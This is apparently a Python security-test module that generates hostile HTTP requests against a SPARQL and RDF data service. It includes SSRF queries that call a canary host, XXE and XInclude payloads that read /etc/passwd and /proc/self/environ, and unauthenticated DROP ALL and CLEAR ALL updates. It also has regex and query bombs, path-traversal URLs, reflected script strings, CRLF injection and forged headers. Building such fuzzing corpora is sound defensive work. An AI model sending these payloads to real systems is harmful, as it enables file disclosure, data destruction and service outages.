"""Hostile requests as data: what a visitor may send to get out, in, or the service down.

``CANARY`` in a request stands for the address of a listener that must never be called.
"""

# ruff: noqa: E501  (a request is read best on one line)
from __future__ import annotations

from collections.abc import Iterator
from dataclasses import dataclass, field
from itertools import product
from urllib.parse import quote, urlencode

CANARY = "CANARY"
SCRIPT = '"><script>alert(1)</script>'
URL = f"http://{CANARY}/"
SECRETS = ("/etc/passwd", "file:///etc/passwd", "file:///proc/self/environ")


@dataclass(frozen=True)
class Attack:
    """One request; ``is_writer`` sends it with a token."""

    method: str
    path: str
    body: bytes = b""
    headers: dict[str, str] = field(default_factory=dict)
    is_writer: bool = False


def _query(text: str, **headers: str) -> Attack:
    return Attack("POST", "/sparql", text.encode(), _typed("application/sparql-query") | headers)


def _update(text: str | bytes) -> Attack:
    body = text if isinstance(text, bytes) else text.encode()
    headers = _typed("application/sparql-update")
    return Attack("POST", "/update", body, headers, is_writer=True)


def _typed(media_type: str) -> dict[str, str]:
    return {"Content-Type": media_type}


# -- calling out ---------------------------------------------------------------------------

_SERVICES = [
    f"SERVICE <{URL}>",
    f"SERVICE SILENT <{URL}>",
    f"service<{URL}>",
    f"SeRvIcE#SERVICE\n<{URL}>",
    f"SERVICE\t\r\n<{URL}>",
    f"S\\u0045RVICE <{URL}>",
    f"\\u0053ERVICE <{URL}>",
    f"\\U00000053ERVICE <{URL}>",
    f"SERVICE <\\u0068ttp://{CANARY}/>",
    "SERVICE e:x",
    "SERVICEe:x",
    f"VALUES ?u {{ <{URL}> }} SERVICE ?u",
    f"BIND(IRI('{URL}') AS ?u) SERVICE ?u",
]
_PLACES = [
    "SELECT * {{ {0} {{ ?s ?p ?o }} }}",
    "ASK {{ FILTER EXISTS {{ {0} {{ ?s ?p ?o }} }} }}",
    "ASK {{ FILTER NOT EXISTS {{ {0} {{ ?s ?p ?o }} }} }}",
    "SELECT * {{ OPTIONAL {{ {0} {{ ?s ?p ?o }} }} }}",
    "SELECT * {{ {{}} UNION {{ {0} {{ ?s ?p ?o }} }} }}",
    "SELECT * {{ ?a ?b ?c MINUS {{ {0} {{ ?s ?p ?o }} }} }}",
    "SELECT * {{ {{ SELECT ?s {{ {0} {{ ?s ?p ?o }} }} }} }}",
    "SELECT * {{ GRAPH ?g {{ {0} {{ ?s ?p ?o }} }} }}",
    "SELECT * {{ ?a ?b ?c LATERAL {{ {0} {{ ?s ?p ?o }} }} }}",
    "SELECT (EXISTS {{ {0} {{ ?s ?p ?o }} }} AS ?x) {{}}",
    "SELECT ?a {{ ?a ?b ?c }} GROUP BY ?a HAVING (EXISTS {{ {0} {{ ?s ?p ?o }} }})",
    "SELECT * {{ ?a ?b ?c }} ORDER BY (EXISTS {{ {0} {{ ?s ?p ?o }} }})",
    "CONSTRUCT {{ ?s ?p ?o }} WHERE {{ {0} {{ ?s ?p ?o }} }}",
    "DESCRIBE ?s {{ {0} {{ ?s ?p ?o }} }}",
    "SELECT * {{ {{{{{{{{ {0} {{ ?s ?p ?o }} }}}}}}}} }}",
]
_CLAUSES = ["FROM <{}>", "FROM NAMED <{}>", "FROM#\n<{}>", "from<{}>"]
_SOURCES = [
    URL,
    *SECRETS[1:],
    f"ftp://{CANARY}/x",
    f"//{CANARY}/",
    "data:,a",
    "jar:file:/x!/",
    "urn:x",
]
_LOADS = [
    "LOAD <{}>",
    "LOAD SILENT <{}>",
    "LOAD <{}> INTO GRAPH <urn:g>",
    "load<{}>",
    "L\\u004FAD <{}>",
    "LOAD#\n<{}>",
    "INSERT DATA {{ <urn:a> <urn:b> 1 }} ; LOAD <{}>",
    "BASE <{}> LOAD <>",
]


def calling_out() -> Iterator[Attack]:
    """Queries, updates and data that name an address or a file."""
    prologue = f"PREFIX e: <{URL}> "
    for service, place in product(_SERVICES, _PLACES):
        yield _query(prologue + place.format(service))
    for clause, source in product(_CLAUSES, _SOURCES):
        yield _query(f"SELECT * {clause.format(source)} {{ ?s ?p ?o }}")
    for name, source in product(["default-graph-uri", "named-graph-uri"], _SOURCES):
        asked = urlencode({"query": "SELECT * { ?s ?p ?o }", name: source})
        yield Attack("GET", f"/sparql?{asked}")
    for load, source in product(_LOADS, [URL, SECRETS[1], f"https://{CANARY}/"]):
        yield _update(load.format(source))
    for service in _SERVICES:
        yield _update(f"{prologue}INSERT {{ ?s ?p ?o }} WHERE {{ {service} {{ ?s ?p ?o }} }}")
    yield from _data_that_calls_out()


def _data_that_calls_out() -> Iterator[Attack]:
    rdf = "xmlns:rdf='http://www.w3.org/1999/02/22-rdf-syntax-ns#'"
    texts = [
        ("application/rdf+xml", f"<!DOCTYPE r SYSTEM '{URL}'><rdf:RDF {rdf}/>"),
        ("application/rdf+xml", f"<!DOCTYPE r [<!ENTITY % x SYSTEM '{URL}'>%x;]><rdf:RDF {rdf}/>"),
        (
            "application/rdf+xml",
            f"<!DOCTYPE r [<!ENTITY x SYSTEM '{SECRETS[1]}'>]><rdf:RDF {rdf}>"
            "<rdf:Description rdf:about='urn:a'><rdf:value>&x;</rdf:value></rdf:Description></rdf:RDF>",
        ),
        (
            "application/rdf+xml",
            f"<rdf:RDF {rdf} xmlns:xi='http://www.w3.org/2001/XInclude'>"
            f"<xi:include href='{SECRETS[1]}' parse='text'/></rdf:RDF>",
        ),
        ("application/ld+json", f'{{"@context": ["{URL}", {{}}], "@id": "urn:a"}}'),
        ("application/ld+json", f'{{"@context": "{SECRETS[1]}", "@id": "urn:a"}}'),
        ("application/ld+json", f'{{"@context": {{"@import": "{URL}"}}, "@id": "urn:a"}}'),
        ("application/ld+json", f'{{"@context": {{"a": {{"@id": "urn:a", "@context": "{URL}"}}}},'
                                ' "a": {"urn:b": 1}}'),
        ("text/turtle", f"@base <{SECRETS[1]}> . <> <http://www.w3.org/2002/07/owl#imports> <> ."),
        ("text/turtle", f"<urn:a> <http://www.w3.org/2002/07/owl#imports> <{URL}> ."),
        ("text/n3", f"@keywords a. <urn:a> <urn:b> <{URL}> ."),
    ]  # fmt: skip
    for media_type, text in texts:
        yield Attack("PUT", "/data?graph=urn:attack", text.encode(), _typed(media_type), True)


# -- without a token -----------------------------------------------------------------------

_VERBS = [
    "INSERT DATA { <urn:a> <urn:b> 1 }", "DELETE DATA { <urn:a> <urn:b> 1 }", "CLEAR ALL",
    "DROP ALL", "DROP SILENT GRAPH <urn:g>", "CREATE GRAPH <urn:new>", "COPY DEFAULT TO <urn:g>",
    "MOVE DEFAULT TO <urn:g>", "ADD DEFAULT TO <urn:g>", f"LOAD <{URL}>", "DELETE WHERE { ?s ?p ?o }",
    "WITH <urn:g> DELETE { ?s ?p ?o } WHERE { ?s ?p ?o }",
]  # fmt: skip
_TOKENS = [
    "", "Bearer", "Bearer ", "Bearer wrong", "bearer null", "Bearer " + "a" * 5000, "Basic b3Blbjp4",
    "Bearer open-sesam", "Bearer open-sesame2", "Bearer open-sesame, Bearer x", "Token open-sesame",
]  # fmt: skip


def without_right() -> Iterator[Attack]:
    """Changes by those who have no token, or not a right one, and by the wrong door."""
    for verb in _VERBS:
        yield Attack("POST", "/update", verb.encode(), _typed("application/sparql-update"))
        form = urlencode({"update": verb}).encode()
        yield Attack("POST", "/update", form, _typed("application/x-www-form-urlencoded"))
        yield Attack("GET", f"/update?update={quote(verb)}")
        yield Attack("GET", f"/sparql?query={quote(verb)}")
        yield _query(verb)
    for token, method in product(_TOKENS, ["PUT", "POST", "DELETE"]):
        headers = _typed("text/turtle") | ({"Authorization": token} if token else {})
        yield Attack(method, "/data?default", b"<urn:a> <urn:b> 1 .", headers)
    for path in ("/operator/queries", "/operator/queries/1"):
        for method in ("GET", "DELETE", "POST"):
            yield Attack(method, path)


# -- more than it can bear -----------------------------------------------------------------


def _deep(left: str, right: str, times: int) -> str:
    return left * times + right * times


_EXPRESSIONS = [
    "1e999999999999 = 1", "9" * 5000 + " * " + "9" * 5000 + " > 1", "1/0", "1.0/0.0", "-" * 90 + "1",
    "'" + "9" * 400 + "'^^<http://www.w3.org/2001/XMLSchema#decimal> > 0",
    "'99999999999999-01-01T00:00:00Z'^^<http://www.w3.org/2001/XMLSchema#dateTime> < NOW()",
    "'P99999999999999Y'^^<http://www.w3.org/2001/XMLSchema#duration> = 1",
    "REGEX('" + "a" * 2000 + "', '(a|a)*b')", "REGEX('a', '" + "(" * 90 + ")" * 90 + "')",
    "REGEX('a', 'a{1000}{1000}{1000}')", "REGEX('a', '[[:alpha:]&&[^\\\\p{L}]]{99999}')",
    "REPLACE('aaaa', '', '$0$0$0$0') = ''", "REPLACE('aaa', 'a', '$99999999999999')  = ''",
    "SUBSTR('abc', -9223372036854775808, 9223372036854775807) = ''", "SUBSTR('abc', 1e300) = ''",
    "STRLEN(CONCAT(" + ",".join(["'" + "x" * 100 + "'"] * 90) + ")) > 0",
    "ENCODE_FOR_URI('" + "\\u20ac" * 500 + "') = ''", "STRDT('a', <urn:x>) = 1",
    "IRI('" + "x" * 3000 + "') = 1", "LANGMATCHES('" + "a-" * 1000 + "', '*')",
    "SHA512(STR(RAND())) = ''", "?x IN (" + ",".join(map(str, range(900))) + ")",
    "COALESCE(" + ",".join(["1/0"] * 300) + ", 1) = 1", "BNODE() = BNODE()",
    "<urn:f>(1) = 2", "<http://www.w3.org/2001/XMLSchema#integer>('" + "1" * 5000 + "') = 1",
]  # fmt: skip
_CROSS = "?a ?b ?c . ?d ?e ?f . ?g ?h ?i"
_HEAVY = [
    f"SELECT (GROUP_CONCAT(?c) AS ?x) {{ {_CROSS} }}",
    f"SELECT (SAMPLE(CONCAT(STR(?a),STR(?d),STR(?g))) AS ?x) {{ {_CROSS} }} GROUP BY ?a ?d ?g",
    f"SELECT * {{ {_CROSS} }} ORDER BY DESC(CONCAT(STR(?a), STR(?d), STR(?g)))",
    f"SELECT (COUNT(DISTINCT *) AS ?n) {{ {_CROSS} }}",
    f"ASK {{ {_CROSS} FILTER(?c + ?f + ?i < 0) }}",
    f"CONSTRUCT {{ [] ?b [ ?e ?f ] }} WHERE {{ {_CROSS} FILTER(?i < 0) }}",
    "SELECT * { ?a (<urn:p1>|!<urn:p1>)* ?b . ?b (<urn:p1>|!<urn:p1>)* ?c FILTER(?c < 0) }",
    "SELECT * { ?a ((<urn:p1>|<urn:p2>)*/(<urn:p3>|<urn:p4>)*)* ?b FILTER(!BOUND(?b)) }",
    "SELECT * { ?a ?b ?c } LIMIT 99999999999999999999", "SELECT * { ?a ?b ?c } OFFSET 18446744073709551615",
    "ASK { ?s ?p " + _deep("<<(?s ?p ", "1)>>", 90).replace("1)>>", ")>>").replace("?p )", "?p 1 )") + " }",
    "ASK { ?s ?p " + _deep("[ ?p ", "]", 95) + " }", "ASK { " + _deep("{", "}", 95) + " }",
    "ASK { ?s " + _deep("(", ")", 90).replace("()", "(<urn:p>)") + "* ?o }",
    "ASK { ?s ?p '''" + "\\\\" * 20000 + "''' }", "ASK { <" + "a" * 60000 + "> ?p ?o }",
    "ASK { ?s ?p '" + "\U0010ffff" * 5000 + "' }", "ASK { ?" + "v" * 60000 + " ?p ?o }",
    "PREFIX " + "p" * 30000 + ": <urn:x> ASK {}", "".join(f"PREFIX p{i}: <urn:{i}> " for i in range(2000)) + "ASK {}",
    "SELECT " + " ".join(f"(?x{i} + 1 AS ?x{i + 1})" for i in range(300)) + " { BIND(1 AS ?x0) }",
    "ASK { VALUES (?a ?b) { " + "(1 2) " * 5000 + "} }", "SELECT * { VALUES () { " + "() " * 20000 + "} }",
    "DESCRIBE " + " ".join(f"<urn:s{i}>" for i in range(2000)), "DESCRIBE * { ?s ?p ?o }",
]  # fmt: skip
_BYTES = [
    b"\xef\xbb\xbfASK {}", b"\xff\xfeA\x00S\x00K\x00", b"ASK { ?s ?p '\xc0\xaf' }", b"ASK { ?s ?p '\xed\xa0\x80' }",
    b"ASK { ?s ?p '\xf8\x88\x80\x80\x80' }", b"ASK {}\x00", b"\x00", b"\xff" * 1000, b"", b"ASK { ?s ?p '\r\n' }",
    b"ASK { ?s ?p <\xe2\x80\xae> }", b"\x1f\x8b\x08\x00" + b"\x00" * 50,
]  # fmt: skip


def too_much() -> Iterator[Attack]:
    """Queries that are deep, wide, long or never end, and bytes that are no text."""
    for expression in _EXPRESSIONS:
        yield _query(f"SELECT (({expression}) AS ?x) {{}}")
        yield _query(f"ASK {{ ?s ?p ?o FILTER({expression}) }}")
    for text in _HEAVY:
        yield _query(text)
    for content, kind in product(_BYTES, ["query", "update"]):
        writer = kind == "update"
        typed = _typed(f"application/sparql-{kind}")
        path = "/update" if writer else "/sparql"
        yield Attack("POST", path, content, typed, writer)
    for content, media_type in product(
        [*_BYTES, b"{" * 50000, b"[" * 50000, b"<a>" * 20000, b'"' * 50000, b"<<(" * 9000,
         b"@prefix : <" + b"a" * 99999, b'{"@context":' * 5000, b'{"@id":"\\ud800"}', b"[NaN]"],
        ["text/turtle", "application/ld+json", "application/rdf+xml", "application/n-quads"],
    ):  # fmt: skip
        yield Attack("POST", "/data?graph=urn:attack", content, _typed(media_type), True)


# -- the wrong address ---------------------------------------------------------------------

_FOLDERS = [
    "/doc", "/id", "/graph", "/document", "/queries", "/static", "/def", "/concept", "/data", "/shapes", "",
]  # fmt: skip
_NAMES = [
    "/..%2f..%2f..%2f..%2fetc%2fpasswd", "/%2e%2e/%2e%2e/%2e%2e/etc/passwd", "/....//....//etc/passwd",
    "/..%5c..%5cetc%5cpasswd", "/%c0%ae%c0%ae/etc/passwd", "/..;/etc/passwd", "//etc/passwd", "/%00", "/a%00.ttl",
    "/%ff%fe", "/" + quote(SCRIPT), "/%0d%0aSet-Cookie:x=1", "/" + "a" * 4000, "/~root", "/x.ttl/../../y",
]  # fmt: skip
_REFLECTED = [
    "/search?q={}", "/sparql?query={}", "/sparql?query=ASK%7B%7D&format={}", "/explain?s={}&p={}&o={}",
    "/data?graph={}", "/queries?q={}", "/explore?class={}", "/sentences?query={}", "/sparql/diagnose?query={}",
    "/?lang={}", "/def?format={}", "/search?q=a&page={}", "/sparql?query=SELECT*%7B%3Fs%20%3Fp%20%3Fo%7D&page={}",
]  # fmt: skip
_HEADERS = [
    {"Host": "evil.example"}, {"Host": "evil.example/<script>"}, {"X-Forwarded-Host": "evil.example"},
    {"X-Forwarded-Proto": "javascript"}, {"X-Original-URL": "/operator/queries"}, {"X-HTTP-Method-Override": "DELETE"},
    {"Origin": "http://evil.example"}, {"Origin": "null"}, {"Accept": "text/html;q=abc, */*;q=9e99"},
    {"Accept": "a/b," * 3000}, {"Accept-Language": "x" * 5000}, {"Accept-Language": SCRIPT},
    {"Accept-Encoding": "gzip;q=0, *;q=0"}, {"If-None-Match": '"' * 3000}, {"Range": "bytes=0-1,2-3,5-9999999999"},
    {"Cookie": "a=" + "b" * 5000}, {"Content-Encoding": "gzip"}, {"Transfer-Encoding": "identity"},
    {"X-Request-Id": SCRIPT}, {"Expect": "100-continue, x"}, {"Upgrade": "h2c"}, {"Referer": SCRIPT},
]  # fmt: skip


def wrong_address() -> Iterator[Attack]:
    """Paths out of their folder, parameters that are script, headers that lie."""
    for folder, name in product(_FOLDERS, _NAMES):
        yield Attack("GET", folder + name, headers={"Accept": "text/html"})
    for pattern, content in product(
        _REFLECTED, [SCRIPT, "javascript:alert(1)", "a\r\nSet-Cookie: x=1", "\x00"]
    ):
        address = pattern.replace("{}", quote(content))
        yield Attack("GET", address, headers={"Accept": "text/html"})
    for headers, path in product(_HEADERS, ["/", "/sparql?query=ASK%7B%7D", "/search?q=a"]):
        yield Attack("GET", path, headers=headers)


GROUPS = {
    "calling out": calling_out, "without right": without_right, "too much": too_much,
    "wrong address": wrong_address,
}  # fmt: skip
